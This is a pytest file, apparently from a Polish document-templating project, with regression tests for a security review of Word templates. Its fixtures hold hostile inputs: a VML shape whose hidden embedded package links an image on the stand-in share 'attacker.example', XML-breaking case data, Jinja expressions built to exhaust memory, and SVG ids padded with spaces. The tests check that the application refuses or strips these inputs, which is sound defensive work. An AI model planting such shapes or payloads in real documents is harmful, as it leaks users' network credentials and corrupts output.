"""Issue 17, sixth templates review: what `szablony sprawdz` still computed while compiling, a filter block
printing case data as XML, a second package hidden in a VML shape, and ids pismo and LibreOffice read apart."""

from __future__ import annotations

import base64
import io
import zipfile

import pytest
from lxml import etree

from pismo.documents import lint
from pismo.render import engine, images, package, reach, sandbox
from test_template_package import build, in_body, refused_everywhere, with_image
from test_templates_round5 import W, _two_targets_of_one_id, counted, made  # noqa: F401 – counted: the fixture


FOLDING = [
    "{{ ('a'|center(99999))|replace(' ', 'bb')|length }}",
    "{{ (('a'|center(999))|replace(' ', ' a a')|wordwrap(2))|length }}",
    "{% if 'a'|upper == 'A' %}x{% endif %}",
]


@pytest.mark.parametrize("source", FOLDING)
def test_finding_the_variables_of_a_template_computes_nothing(counted, source):
    # finding 1: jinja's meta.find_undeclared_variables compiled with jinja's own, folding, code generator
    ast = engine.environment().parse(source + "{{ adresat.nazwa }}")
    assert sandbox.undeclared_names(ast) == {"adresat"}
    assert counted == []


def test_szablony_sprawdz_computes_nothing_while_it_reads_a_template(counted, tmp_path):
    path = tmp_path / "plan.docx"
    path.write_bytes(build(in_body(f'<w:r><w:t xml:space="preserve">{"".join(FOLDING)}</w:t></w:r>')))
    lint.lint_template(path, "plan.docx")
    assert counted == []


def _filled(source: str, **data) -> str:
    ast, template = engine.compile_source(source)
    return template.render(**data)


@pytest.mark.parametrize("source", [
    "<w:t>{% filter striptags %}{{ x }}{% endfilter %}</w:t>",  # finding 5: striptags unescapes the block's text
    "<w:t>{% call '{0}'.format(x) %}{% endcall %}</w:t>",  # one step beside: str.format takes the caller too
])
def test_a_block_prints_the_cases_text_escaped(source):
    filled = _filled(source, x="Łęczna</w:t></w:r><w:r><w:t>X & <y>")
    assert "</w:t></w:r>" not in filled and "&lt;/w:t&gt;" in filled and "&amp;" in filled


def test_a_macro_called_with_a_block_still_writes_its_own_xml():
    filled = _filled("{% macro m() %}<w:b/>{{ x }}{{ caller() }}{% endmacro %}{% call m() %}{% endcall %}", x="A & B")
    assert filled == "<w:b/>A &amp; B"


def test_a_filter_block_is_refused_everywhere(tmp_path):
    spec = in_body('<w:r><w:t xml:space="preserve">{% filter upper %}{{ jednostka.miejscowosc }}{% endfilter %}'
                   '</w:t></w:r>')
    refused_everywhere(tmp_path, spec, "znacznik „{% filter %}” jest niedozwolony")


def _gfxdata_shape(prefix: str = "o") -> str:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("drs/_rels/shapexml.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
                         '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                         'officeDocument/2006/relationships/image" Target="file://///attacker.example/share/x.png" '
                         'TargetMode="External"/></Relationships>')
    data = base64.b64encode(inner.getvalue()).decode()
    return (f'<w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" xmlns:{prefix}="urn:schemas-microsoft-com:'
            f'office:office" style="width:20pt;height:4pt" fillcolor="#4472c4" {prefix}:gfxdata="{data}"/></w:pict></w:r>')


@pytest.mark.parametrize("prefix", ["o", "x"])
def test_a_second_package_in_a_vml_shape_never_reaches_a_document(tmp_path, prefix):
    # finding 4: o:gfxdata, a zip of DrawingML with a picture linked on a share, was copied into every document
    body = made(tmp_path, in_body(_gfxdata_shape(prefix)))
    assert "gfxdata" not in body and "<v:rect" in body


def test_a_second_package_in_a_vml_shape_is_dropped_from_every_part():
    header = f'<w:hdr {W}><w:p>{_gfxdata_shape()}</w:p></w:hdr>'.encode()
    [(name, blob)] = package.without_gfxdata([("word/header1.xml", header)])
    assert name == "word/header1.xml" and b"gfxdata" not in blob and b"v:rect" in blob
    untouched = [("word/footer1.xml", f'<w:ftr {W}><w:p><w:r><w:t>gfxdata</w:t></w:r></w:p></w:ftr>'.encode())]
    assert package.without_gfxdata(untouched) == untouched


def test_a_second_package_written_while_filling_is_refused():
    blob = f'<w:document {W}><w:body><w:p>{_gfxdata_shape()}</w:p></w:body></w:document>'.encode()
    with pytest.raises(reach.Outside, match="gfxdata"):
        reach.check_tree("word/document.xml", etree.fromstring(blob), blob=blob)


_SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"'


@pytest.mark.parametrize("key", ["a ", " a", "a b", "a\u00a0", "a\t"])
def test_an_svg_id_holding_a_space_is_refused(key):
    # finding 2: pismo trimmed href="#a " to the 1-unit rect "a", LibreOffice drew the 36 Mpx image "a "
    svg = (f'<svg {_SVG}><defs><image id="{key}" width="1" height="1"/><rect id="a0" width="1" height="1"/></defs>'
           f'<use xlink:href="#{key}"/></svg>')
    with pytest.raises(images.TooLarge, match="identyfikatorze ze spacją"):
        images.check_svg(etree.ElementTree(etree.fromstring(svg)))


def test_an_svg_id_holding_a_space_is_refused_everywhere(tmp_path):
    svg = f'<svg {_SVG}><defs><image id="a " width="1" height="1"/><rect id="a"/></defs><use href="#a "/></svg>'
    refused_everywhere(tmp_path, with_image("a.svg", svg.encode()), "identyfikatorze ze spacją")


@pytest.mark.parametrize("spaced", [" rId90", "rId90 ", "rId\u00a090"])
def test_a_relationship_id_holding_a_space_is_refused_everywhere(tmp_path, spaced):
    # finding 3: " rId90" and "rId90" were two to the duplicate check, one to the count of drawings
    refused_everywhere(tmp_path, _two_targets_of_one_id(spaced, "rId90"), "identyfikatorze ze spacją")
